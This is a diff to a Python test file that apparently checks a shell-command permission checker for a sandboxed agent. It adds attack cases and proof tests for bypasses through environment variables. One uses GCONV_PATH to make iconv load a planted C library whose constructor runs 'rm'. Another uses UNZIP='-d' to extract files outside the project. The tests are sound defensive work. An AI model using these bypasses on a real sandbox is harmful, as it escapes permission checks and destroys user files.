@@ -91,6 +91,28 @@ ROWS = [
         "PIP_CONFIG_FILE={OUT}/pip.conf pip list",
         bypass="PIP_CONFIG_FILE reads a config outside the project whose `log =` makes pip write outside; PIP_LOG itself is refused",
     ),
+    Row(
+        "env",
+        B,
+        ATTACK,
+        "GCONV_PATH=. iconv -f EVIL -t UTF-8 notes.txt",
+        bypass="GCONV_PATH makes glibc load a shared library named in ./gconv-modules (code runs like LD_PRELOAD, which is refused); its constructor runs rm",
+    ),
+    Row(
+        "env",
+        B,
+        ATTACK,
+        "GCONV_PATH={OUT} iconv -l",
+        bypass="GCONV_PATH outside the project is not even path-checked: glibc reads gconv-modules and loads libraries from there",
+    ),
+    Row(
+        "env",
+        B,
+        ATTACK,
+        "UNZIP='-d {OUT}' unzip x.zip",
+        bypass="UNZIP holds unzip's default options unchecked: -d extracts outside the project; `unzip x.zip -d OUT` itself is refused",
+    ),
+    Row("env", B, TWIN, "iconv -f latin1 -t utf-8 README"),
     Row("env", B, TWIN, "GIT_PAGER=cat git log"),
     Row("env", B, TWIN, "CC=clang make"),
     Row("env", B, TWIN, "PYTEST_ADDOPTS='-x -q' pytest"),
@@ -212,7 +234,7 @@ def verdicts(world: dict[str, Path]) -> dict[tuple[str, str], bool]:
     )
     out = res.stdout.splitlines()
     assert len(out) == len(ROWS), res.stderr
-    return {(r.shell, r.command): bool(json.loads(line)["allowed"]) for r, line in zip(ROWS, out)}
+    return {(r.shell, r.command): bool(json.loads(line)["allowed"]) for r, line in zip(ROWS, out, strict=True)}
 
 
 def _param(r: Row) -> object:
@@ -279,3 +301,29 @@ def test_proof_pip_config_file_log_writes_outside(scratch: tuple[Path, Path]) ->
     (out / "pip.conf").write_text(f"[global]\nlog = {out}/pip.log\ndisable-pip-version-check = true\n")
     _run(f"PIP_CONFIG_FILE={out}/pip.conf pip list", proj)
     assert (out / "pip.log").exists()
+
+
+def test_proof_gconv_path_loads_a_library_that_runs_rm(scratch: tuple[Path, Path]) -> None:
+    if shutil.which("gcc") is None or shutil.which("iconv") is None:
+        pytest.skip("gcc or iconv is not installed")
+    proj, _ = scratch
+    (proj / "evil.c").write_text(
+        "#include <stdlib.h>\n"
+        '__attribute__((constructor)) static void init(void) { system("rm -f notes.txt"); }\n'
+        "int gconv(void) { return 0; }\nint gconv_init(void) { return 0; }\n"
+    )
+    (proj / "gconv-modules").write_text("module EVIL// INTERNAL evil 1\nmodule INTERNAL EVIL// evil 1\n")
+    # the build step is itself an allowed command (gcc -shared -fPIC -o evil.so evil.c)
+    assert _run("gcc -shared -fPIC -o evil.so evil.c", proj).returncode == 0
+    _run("GCONV_PATH=. iconv -f EVIL -t UTF-8 notes.txt", proj)
+    assert not (proj / "notes.txt").exists()
+
+
+def test_proof_unzip_env_extracts_outside(scratch: tuple[Path, Path]) -> None:
+    if shutil.which("zip") is None or shutil.which("unzip") is None:
+        pytest.skip("zip or unzip is not installed")
+    proj, out = scratch
+    (proj / "a.txt").write_text("a\n")
+    assert _run("zip -q x.zip a.txt", proj).returncode == 0
+    _run(f"UNZIP='-d {out}' unzip -q x.zip", proj)
+    assert (out / "a.txt").exists()
